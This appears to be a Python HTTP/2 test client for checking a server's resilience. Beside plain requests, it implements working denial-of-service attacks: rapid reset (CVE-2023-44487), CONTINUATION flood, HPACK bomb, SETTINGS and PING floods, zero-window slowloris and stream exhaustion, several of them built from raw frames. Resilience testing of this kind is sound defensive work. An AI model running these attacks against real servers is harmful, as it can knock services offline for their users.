"""An HTTP/2 client for the tests, on the `h2` package: plain requests, and the attacks a
front-line server must survive. Prints one JSON object (the result) as its last line.

    h2tool.py ADDR [--tls] request PATH [--method M] [--body-bytes N] [--header K:V]...
    h2tool.py ADDR [--tls] ATTACK [--count N]

ATTACK is one of rapid-reset, reset-after-accept, continuation-flood, hpack-bomb, big-headers,
settings-flood, ping-flood, zero-window, many-streams, graceful, idle-goaway. Each attack prints
"attacking" on a line of its own once it is under way (the test then checks that another client
is still served), and stops by itself (bounded counts, bounded time).
"""

import argparse
import json
import os
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from h2.errors import ErrorCodes

CERTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "certs")


def connect(addr, use_tls, window=None, settings=None):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    if use_tls:
        ctx = ssl.create_default_context(cafile=os.path.join(CERTS, "ca.pem"))
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname="localhost")
        assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    local = dict(settings or {})
    if window is not None:
        local[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
    if local:
        conn.update_settings(local)
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers_for(authority, path, method="GET", extra=()):
    return [(":method", method), (":path", path), (":scheme", "https"), (":authority", authority)] + list(extra)


class Closed(Exception):
    pass


def pump(sock, conn, until, deadline=10.0):
    """Reads and handles events until `until(events)` says so; returns every event seen."""
    seen = []
    end = time.time() + deadline
    while time.time() < end:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            data = b""
        if not data:
            seen.append("closed")
            return seen
        # Frame by frame: h2 takes a GOAWAY as the end and refuses what follows it in the same
        # read (the PING of a graceful shutdown), losing the events before it.
        pending = getattr(conn, "_tool_pending", b"") + data
        closed = False
        while len(pending) >= 9 and not closed:
            size = 9 + int.from_bytes(pending[:3], "big")
            if len(pending) < size:
                break
            one, pending = pending[:size], pending[size:]
            try:
                seen.extend(conn.receive_data(one))
            except h2.exceptions.ProtocolError:
                closed = True
        conn._tool_pending = pending
        if closed:
            seen.append("closed")
            return seen
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                pass
        if until(seen):
            return seen
    return seen


def goaway(events):
    for e in events:
        if isinstance(e, h2.events.ConnectionTerminated):
            return ErrorCodes(e.error_code).name if e.error_code in ErrorCodes._value2member_map_ else str(e.error_code)
    return None


def request(args):
    sock, conn = connect(args.addr, args.tls)
    extra = [tuple(h.split(":", 1)) for h in args.header]
    body = b"x" * args.body_bytes if args.body_bytes else b""
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, args.path, args.method, extra), end_stream=not body)
    sock.sendall(conn.data_to_send())
    sent = 0
    result = {"status": None, "headers": {}, "body": b"", "reset": None}

    handled = [0]

    def done(events):
        # `events` grows from call to call: each event is handled once.
        fresh, handled[0] = events[handled[0]:], len(events)
        for e in fresh:
            if isinstance(e, h2.events.ResponseReceived) and e.stream_id == sid:
                for k, v in e.headers:
                    k, v = k.decode(), v.decode()
                    if k == ":status":
                        result["status"] = int(v)
                    else:
                        result["headers"][k] = v
            elif isinstance(e, h2.events.DataReceived) and e.stream_id == sid:
                result["body"] += e.data
                conn.acknowledge_received_data(e.flow_controlled_length, sid)
            elif isinstance(e, h2.events.StreamReset) and e.stream_id == sid:
                result["reset"] = ErrorCodes(e.error_code).name
                return True
            elif isinstance(e, h2.events.StreamEnded) and e.stream_id == sid:
                return True
        return False

    events = []
    while sent < len(body):
        window = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
        if window <= 0:
            events += pump(sock, conn, lambda ev: conn.local_flow_control_window(sid) > 0 or done(ev))
            continue
        chunk = body[sent:sent + window]
        sent += len(chunk)
        conn.send_data(sid, chunk, end_stream=sent == len(body))
        sock.sendall(conn.data_to_send())
    handled[0] = 0
    last = pump(sock, conn, done, deadline=args.deadline)
    done(last)  # pump returns without asking once the connection closes (a GOAWAY, then a PING)
    events += last
    out = {
        "status": result["status"],
        "headers": result["headers"],
        "body_len": len(result["body"]),
        "body": result["body"].decode("latin-1") if len(result["body"]) < 65536 else "",
        "reset": result["reset"],
    }
    print(json.dumps(out), flush=True)


def attacking():
    print("attacking", flush=True)


def rapid_reset(args):
    """CVE-2023-44487: HEADERS then RST_STREAM at once, stream after stream."""
    sock, conn = connect(args.addr, args.tls)
    attacking()
    sent = 0
    for _ in range(args.count):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers_for(args.addr, "/"), end_stream=True)
        conn.reset_stream(sid, ErrorCodes.CANCEL)
        sent += 1
        if sent % 50 == 0:
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                break
    events = pump(sock, conn, lambda ev: goaway(ev) is not None or "closed" in ev, deadline=5)
    print(json.dumps({"streams": sent, "goaway": goaway(events), "closed": "closed" in events or goaway(events) is not None}))


def reset_after_accept(args):
    """Requests the server takes up, each reset as soon as its response starts."""
    sock, conn = connect(args.addr, args.tls)
    attacking()
    streams = 0
    events = []
    while streams < args.count:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers_for(args.addr, args.path or "/"), end_stream=True)
        sock.sendall(conn.data_to_send())
        streams += 1
        got = pump(sock, conn, lambda ev: any(isinstance(e, (h2.events.ResponseReceived, h2.events.ConnectionTerminated)) for e in ev) or "closed" in ev, deadline=5)
        events += got
        if goaway(got) or "closed" in got:
            break
        try:
            conn.reset_stream(sid, ErrorCodes.CANCEL)
            sock.sendall(conn.data_to_send())
        except Exception:
            break
    events += pump(sock, conn, lambda ev: goaway(ev) is not None or "closed" in ev, deadline=2)
    print(json.dumps({"streams": streams, "goaway": goaway(events)}))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def raw_connect(args):
    sock, conn = connect(args.addr, args.tls)
    pump(sock, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), deadline=3)
    return sock, conn


def send_raw(sock, data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def continuation_flood(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames without end (2024)."""
    sock, conn = raw_connect(args)
    attacking()
    block = b"\x82\x84\x87" + b"\x41\x09localhost"  # GET / https, :authority
    ok = send_raw(sock, frame(0x1, 0x1, 1, block))  # END_STREAM, no END_HEADERS
    sent = 0
    junk = b"\x40\x05x-pad" + b"\x7f\x81\x7f" + b"a" * 16000  # literal header, 16 KB value
    while ok and sent < args.count:
        ok = send_raw(sock, frame(0x9, 0x0, 1, junk[:16000]))
        sent += 1
    events = pump(sock, conn, lambda ev: goaway(ev) is not None or "closed" in ev, deadline=5)
    print(json.dumps({"frames": sent, "stopped_early": sent < args.count, "goaway": goaway(events), "closed": "closed" in events or goaway(events) is not None}))


def hpack_bomb(args):
    """A 4 KB field put in the dynamic table once, then referenced thousands of times."""
    sock, conn = raw_connect(args)
    attacking()
    value = b"a" * 4000
    literal = b"\x40\x06x-bomb" + b"\x7f" + encode_int(len(value) - 127) + value
    block = b"\x82\x84\x87" + b"\x41\x09localhost" + literal + b"\xbe" * 8000
    send_raw(sock, frame(0x1, 0x5, 1, block[:16000]))  # END_STREAM | END_HEADERS
    events = pump(sock, conn, lambda ev: any(isinstance(e, (h2.events.ResponseReceived, h2.events.StreamReset, h2.events.ConnectionTerminated)) for e in ev) or "closed" in ev, deadline=5)
    status = None
    reset = None
    for e in events:
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[b":status"])
        if isinstance(e, h2.events.StreamReset):
            reset = ErrorCodes(e.error_code).name
    print(json.dumps({"status": status, "reset": reset, "goaway": goaway(events), "closed": "closed" in events}))


def encode_int(n):
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


def big_headers(args):
    """A request whose header list is past the server's limit."""
    sock, conn = connect(args.addr, args.tls)
    attacking()
    extra = [("x-big-%d" % i, "v" * 1000) for i in range(args.count)]
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, "/", extra=extra), end_stream=True)
    sock.sendall(conn.data_to_send())
    status = None
    reset = None
    events = pump(sock, conn, lambda ev: any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)) for e in ev) or "closed" in ev)
    for e in events:
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[b":status"])
        if isinstance(e, h2.events.StreamReset):
            reset = ErrorCodes(e.error_code).name
    print(json.dumps({"status": status, "reset": reset, "goaway": goaway(events)}))


def flood(args, make):
    sock, conn = raw_connect(args)
    sock.settimeout(0.2)
    attacking()
    sent = 0
    batch = make() * 100
    deadline = time.time() + 10
    while sent < args.count and time.time() < deadline:
        try:
            sock.sendall(batch)
        except socket.timeout:
            continue
        except OSError:
            break
        sent += 100
    stalled = sent < args.count
    sock.settimeout(5)
    events = pump(sock, conn, lambda ev: goaway(ev) is not None or "closed" in ev, deadline=3)
    print(json.dumps({"frames": sent, "backpressured_or_closed": stalled, "goaway": goaway(events), "closed": "closed" in events}))


def settings_flood(args):
    flood(args, lambda: frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100)))


def ping_flood(args):
    flood(args, lambda: frame(0x6, 0x0, 0, b"12345678"))


def zero_window(args):
    """Asks for a large response with a window of 0, then never opens it: a slowloris."""
    sock, conn = connect(args.addr, args.tls, window=0)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, args.path or "/"), end_stream=True)
    sock.sendall(conn.data_to_send())
    attacking()
    events = pump(sock, conn, lambda ev: any(isinstance(e, (h2.events.StreamReset, h2.events.ConnectionTerminated)) for e in ev) or "closed" in ev, deadline=args.deadline)
    reset = None
    status = None
    for e in events:
        if isinstance(e, h2.events.StreamReset):
            reset = ErrorCodes(e.error_code).name
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[b":status"])
    print(json.dumps({"status": status, "reset": reset, "goaway": goaway(events), "closed": "closed" in events}))


def raw_frames(sock, until, deadline=5.0):
    """Frames as (type, flags, stream, payload), read without h2's state machine (for frames
    about streams h2 does not know, opened by raw frames), until `until(frames)` or the end."""
    frames, buf = [], b""
    end = time.time() + deadline
    while time.time() < end and not until(frames):
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            frames.append((None, 0, 0, b""))
            break
        buf += data
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
            size = int.from_bytes(buf[:3], "big")
            frames.append((buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9:9 + size]))
            buf = buf[9 + size:]
    return frames


def many_streams(args):
    """Opens streams and never ends them (no END_STREAM), past the concurrent-stream limit."""
    sock, conn = raw_connect(args)
    attacking()
    # Raw frames: h2 itself would refuse to pass the server's SETTINGS_MAX_CONCURRENT_STREAMS.
    block = b"\x83\x84\x87" + b"\x41\x09localhost"  # POST / https
    send_raw(sock, b"".join(frame(0x1, 0x4, 1 + 2 * i, block) for i in range(args.count)))
    refused_code = int(ErrorCodes.REFUSED_STREAM).to_bytes(4, "big")
    def refused(frames):
        return [f for f in frames if f[0] == 0x3 and f[3] == refused_code]
    frames = raw_frames(sock, lambda fr: len(refused(fr)) >= args.count - 100 or any(f[0] in (0x7, None) for f in fr))
    gone = [f for f in frames if f[0] == 0x7]
    code = ErrorCodes(int.from_bytes(gone[0][3][4:8], "big")).name if gone else None
    print(json.dumps({"streams": args.count, "refused": len(refused(frames)), "goaway": code, "closed": any(f[0] is None for f in frames)}))


def graceful(args):
    """A request to a slow path; prints "sent", then the response and whether GOAWAY came."""
    sock, conn = connect(args.addr, args.tls)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, args.path or "/"), end_stream=True)
    sock.sendall(conn.data_to_send())
    print("sent", flush=True)
    status = None
    body = b""
    events = pump(sock, conn, lambda ev: any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) for e in ev) or "closed" in ev, deadline=args.deadline)
    for e in events:
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[b":status"])
        if isinstance(e, h2.events.DataReceived):
            body += e.data
    if goaway(events) is None:
        events += pump(sock, conn, lambda ev: goaway(ev) is not None or "closed" in ev, deadline=3)
    print(json.dumps({"status": status, "body": body.decode("latin-1"), "goaway": goaway(events)}))


def idle_goaway(args):
    """One request, then "served"; then waits, idle, for the server's GOAWAY (a drain)."""
    sock, conn = connect(args.addr, args.tls)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, args.path or "/"), end_stream=True)
    sock.sendall(conn.data_to_send())
    events = pump(sock, conn, lambda ev: any(isinstance(e, h2.events.StreamEnded) for e in ev) or "closed" in ev, deadline=args.deadline)
    status = None
    for e in events:
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[b":status"])
    print("served", flush=True)
    events = pump(sock, conn, lambda ev: goaway(ev) is not None or "closed" in ev, deadline=args.deadline)
    print(json.dumps({"status": status, "goaway": goaway(events)}))


def stalled_body(args):
    """A POST that promises a body and never sends it."""
    sock, conn = connect(args.addr, args.tls)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, args.path or "/", "POST", [("content-length", "10")]))
    sock.sendall(conn.data_to_send())
    events = pump(sock, conn, lambda ev: any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) for e in ev) or "closed" in ev, deadline=args.deadline)
    status = None
    for e in events:
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[b":status"])
    print(json.dumps({"status": status}))


def parallel(args):
    """COUNT requests for PATH at once on one connection; their bodies, in stream order."""
    sock, conn = connect(args.addr, args.tls)
    sids = []
    for _ in range(args.count):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers_for(args.addr, args.path or "/"), end_stream=True)
        sids.append(sid)
    sock.sendall(conn.data_to_send())
    bodies = {sid: b"" for sid in sids}
    ended = set()
    handled = [0]

    def done(events):
        fresh, handled[0] = events[handled[0]:], len(events)
        for e in fresh:
            if isinstance(e, h2.events.DataReceived):
                bodies[e.stream_id] += e.data
                conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
            elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended.add(e.stream_id)
        return len(ended) == len(sids)

    pump(sock, conn, done, deadline=args.deadline)
    print(json.dumps({"bodies": [bodies[sid].decode("latin-1") for sid in sids]}))


def gate(args):
    """Asks for /gate?f=FILE and makes FILE once the first block has arrived."""
    sock, conn = connect(args.addr, args.tls)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers_for(args.addr, "/gate?f=" + args.path), end_stream=True)
    sock.sendall(conn.data_to_send())
    body = [b""]
    handled = [0]

    def done(events):
        fresh, handled[0] = events[handled[0]:], len(events)
        for e in fresh:
            if isinstance(e, h2.events.DataReceived):
                body[0] += e.data
                conn.acknowledge_received_data(e.flow_controlled_length, sid)
                if body[0] == b"first":
                    open(args.path, "w").close()
            elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                return True
        return False

    pump(sock, conn, done, deadline=15)
    print(json.dumps({"body": body[0].decode()}))


MODES = {
    "gate": gate,
    "parallel": parallel,
    "stalled-body": stalled_body,
    "rapid-reset": rapid_reset,
    "reset-after-accept": reset_after_accept,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "big-headers": big_headers,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "zero-window": zero_window,
    "many-streams": many_streams,
    "graceful": graceful,
    "idle-goaway": idle_goaway,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("addr")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("mode", choices=["request"] + sorted(MODES))
    parser.add_argument("path", nargs="?", default=None)
    parser.add_argument("--method", default="GET")
    parser.add_argument("--body-bytes", type=int, default=0)
    parser.add_argument("--header", action="append", default=[])
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--deadline", type=float, default=10.0)
    args = parser.parse_args()
    if args.mode == "request":
        args.path = args.path or "/"
        request(args)
    else:
        MODES[args.mode](args)


if __name__ == "__main__":
    sys.exit(main())
